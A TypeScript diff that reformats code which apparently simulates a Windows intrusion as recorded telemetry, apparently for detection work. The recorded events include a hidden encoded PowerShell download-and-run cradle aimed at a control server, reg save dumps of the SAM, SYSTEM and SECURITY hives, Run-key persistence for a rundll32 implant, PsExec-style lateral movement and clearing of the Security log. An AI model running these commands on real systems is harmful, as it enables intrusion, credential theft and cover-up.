@@ -40,14 +40,39 @@ export function intrusion(): readonly Recording[] {
 function openTheMail(desk: Recording): Process {
   const script = `IEX (New-Object Net.WebClient).DownloadString('http://${intruders.controlServer}/cfg'); Start-Sleep 3`;
   const encoded = Buffer.from(script, 'utf16le').toString('base64');
-  const word = desk.start(at('09:12:04'), desk.running.explorer, programs.word, `"${programs.word.path}" /n "C:\\Users\\j.weber\\Downloads\\Invoice 2291.docm"`);
-  const powershell = desk.start(at('09:12:31'), word, programs.powershell, `powershell.exe -NoP -W Hidden -Enc ${encoded}`);
-  desk.connects(at('09:12:34'), powershell, { direction: 'out', address: intruders.controlServer, port: 80, ownPort: 49811 });
+  const word = desk.start(
+    at('09:12:04'),
+    desk.running.explorer,
+    programs.word,
+    `"${programs.word.path}" /n "C:\\Users\\j.weber\\Downloads\\Invoice 2291.docm"`,
+  );
+  const powershell = desk.start(
+    at('09:12:31'),
+    word,
+    programs.powershell,
+    `powershell.exe -NoP -W Hidden -Enc ${encoded}`,
+  );
+  desk.connects(at('09:12:34'), powershell, {
+    direction: 'out',
+    address: intruders.controlServer,
+    port: 80,
+    ownPort: 49811,
+  });
   desk.writes(at('09:12:39'), powershell, implant.path);
 
-  const host = desk.start(at('09:12:42'), powershell, programs.rundll32, `"${programs.rundll32.path}" ${implant.path},Start`);
+  const host = desk.start(
+    at('09:12:42'),
+    powershell,
+    programs.rundll32,
+    `"${programs.rundll32.path}" ${implant.path},Start`,
+  );
   desk.loads(at('09:12:43'), host, implant, null);
-  desk.connects(at('09:12:45'), host, { direction: 'out', address: intruders.controlServer, port: 443, ownPort: 49815 });
+  desk.connects(at('09:12:45'), host, {
+    direction: 'out',
+    address: intruders.controlServer,
+    port: 443,
+    ownPort: 49815,
+  });
   const run = `HKU\\${weber.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\MsCfgHelper`;
   desk.sets(at('09:12:51'), host, run, `rundll32.exe ${implant.path},Start`);
   return host;
@@ -100,13 +125,26 @@ function hop(desk: Recording, target: Recording, { by, startMs, service, port }:
   });
 
   const image = renamed(programs.psexecService, `C:\\Windows\\${service}.exe`);
-  const share = { user: hoffmann, from, share: 'ADMIN$', localPath: '\\??\\C:\\Windows', file: `${service}.exe`, access: 'write' } as const;
+  const share = {
+    user: hoffmann,
+    from,
+    share: 'ADMIN$',
+    localPath: '\\??\\C:\\Windows',
+    file: `${service}.exe`,
+    access: 'write',
+  } as const;
   target.logsOn(after(1), { user: hoffmann, type: 3, from: { ...from, workstation: '-' } });
   target.opensShare(after(2), share);
   target.writes(after(2), target.running.kernel, image.path);
   target.installs(
     after(3),
-    { name: service, imagePath: `%SystemRoot%\\${service}.exe`, type: 'user mode service', start: 'demand start', account: 'LocalSystem' },
+    {
+      name: service,
+      imagePath: `%SystemRoot%\\${service}.exe`,
+      type: 'user mode service',
+      start: 'demand start',
+      account: 'LocalSystem',
+    },
     hoffmann,
   );
   const running = target.start(after(4), target.running.services, image, image.path);
@@ -121,14 +159,34 @@ function hop(desk: Recording, target: Recording, { by, startMs, service, port }:
 
 /** 10:31. The hives with the local secrets, a copy of the implant that starts with the machine, and the traces. */
 function emptyTheFileServer(files: Recording): void {
-  const shell = files.start(at('10:31:02'), files.running.services, programs.cmd, `${cmd} /c C:\\Users\\Public\\Libraries\\go.cmd`, system);
-  for (const [time, hive] of [['10:31:03', 'SAM'], ['10:31:05', 'SYSTEM'], ['10:31:08', 'SECURITY']] as const) {
-    const saved = files.start(at(time), shell, programs.reg, `reg  save HKLM\\${hive} ${dropped}${hive.toLowerCase()}.sav /y`);
+  const shell = files.start(
+    at('10:31:02'),
+    files.running.services,
+    programs.cmd,
+    `${cmd} /c C:\\Users\\Public\\Libraries\\go.cmd`,
+    system,
+  );
+  for (const [time, hive] of [
+    ['10:31:03', 'SAM'],
+    ['10:31:05', 'SYSTEM'],
+    ['10:31:08', 'SECURITY'],
+  ] as const) {
+    const saved = files.start(
+      at(time),
+      shell,
+      programs.reg,
+      `reg  save HKLM\\${hive} ${dropped}${hive.toLowerCase()}.sav /y`,
+    );
     files.writes(at(time), saved, `${dropped}${hive.toLowerCase()}.sav`);
   }
   files.writes(at('10:31:20'), files.running.kernel, implant.path);
   const run = 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\MsCfgHelper';
-  const setter = files.start(at('10:31:31'), shell, programs.reg, `reg  add ${run.slice(0, run.lastIndexOf('\\'))} /v MsCfgHelper /d "rundll32.exe ${implant.path},Start" /f`);
+  const setter = files.start(
+    at('10:31:31'),
+    shell,
+    programs.reg,
+    `reg  add ${run.slice(0, run.lastIndexOf('\\'))} /v MsCfgHelper /d "rundll32.exe ${implant.path},Start" /f`,
+  );
   files.sets(at('10:31:31'), setter, run, `rundll32.exe ${implant.path},Start`);
   files.start(at('10:44:50'), shell, programs.wevtutil, 'wevtutil  cl Security');
 }
@@ -144,7 +202,18 @@ function comeBackByTheFrontDoor(application: Recording): void {
     ownPort: 3389,
   });
   application.logsOn(at('11:52:10'), { user: session, type: 10, from });
-  const host = application.start(at('11:53:02'), application.running.explorer, programs.rundll32, `rundll32.exe ${implant.path},Start`, session);
+  const host = application.start(
+    at('11:53:02'),
+    application.running.explorer,
+    programs.rundll32,
+    `rundll32.exe ${implant.path},Start`,
+    session,
+  );
   application.loads(at('11:53:03'), host, implant, null);
-  application.connects(at('11:53:05'), host, { direction: 'out', address: intruders.controlServer, port: 443, ownPort: 51744 });
+  application.connects(at('11:53:05'), host, {
+    direction: 'out',
+    address: intruders.controlServer,
+    port: 443,
+    ownPort: 51744,
+  });
 }
